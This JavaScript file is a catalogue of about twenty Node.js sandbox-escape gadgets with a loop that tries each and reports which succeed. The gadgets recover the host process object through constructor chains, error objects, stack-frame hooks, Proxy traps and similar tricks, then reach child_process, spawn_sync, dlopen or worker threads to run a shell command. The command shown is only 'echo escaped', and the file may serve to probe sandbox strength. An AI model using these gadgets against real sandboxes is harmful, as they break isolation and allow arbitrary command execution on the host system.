// Roads out of jails made of the language itself. Each returns what it takes for the outside.
const outside = (value) => {
  const found = value?.mainModule?.require?.('child_process') ?? value?.binding?.('spawn_sync') ?? value?.getBuiltinModule?.('child_process');
  return found?.execSync?.('echo escaped') ?? 'nothing';
};
const gadgets = [
  () => outside(this.constructor.constructor('return process')()),
  () => outside((() => {}).constructor('return process')()),
  () => outside((async () => {}).constructor('return process')()),
  () => outside((function* () {}).constructor('return process')().next().value),
  () => outside(Error.constructor('return process')()),
  () => { try { null.x; } catch (error) { return outside(error.constructor.constructor('return process')()); } },
  () => { try { (function f() { f(); })(); } catch (error) { return outside(error.constructor.constructor('return process')()); } },
  () => { Error.prepareStackTrace = (error, frames) => frames; const { stack } = new Error(); Error.prepareStackTrace = undefined; return outside(stack[0]?.getThis?.()?.process); },
  () => { Error.prepareStackTrace = (error, frames) => frames.map((frame) => frame.getFunction?.()); const { stack } = new Error(); Error.prepareStackTrace = undefined; return outside(stack[0]?.constructor('return process')()); },
  () => outside(new Proxy({}, { get: (target, key, receiver) => receiver.constructor.constructor('return process')() }).x),
  () => outside(Reflect.construct(Function, ['return process'])()),
  () => outside(Object.getOwnPropertyDescriptor(globalThis, 'process')?.value),
  () => outside(require('module').createRequire('/')('process')),
  () => require('child_process').execSync('echo escaped'),
  () => process.binding('spawn_sync').spawn({ file: 'echo', args: ['escaped'] }),
  () => process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'),
  () => new (require('worker_threads').Worker)('console.log("escaped")', { eval: true }),
  () => require('vm').runInThisContext('process').mainModule.require('child_process').execSync('echo escaped'),
  () => globalThis.host ?? (0, eval)('typeof host === "undefined" ? "nothing" : "escaped"'),
  () => structuredClone({ get x() { return outside(this.constructor.constructor('return process')()); } }).x,
];
let tried = 0;
for (const gadget of gadgets) {
  tried++;
  try {
    const value = gadget();
    if (value !== 'nothing') console.log(typeof value, String(value).slice(0, 40));
  } catch (error) {
    console.log(error.name, error.code);
  }
}
console.log('tried', tried);
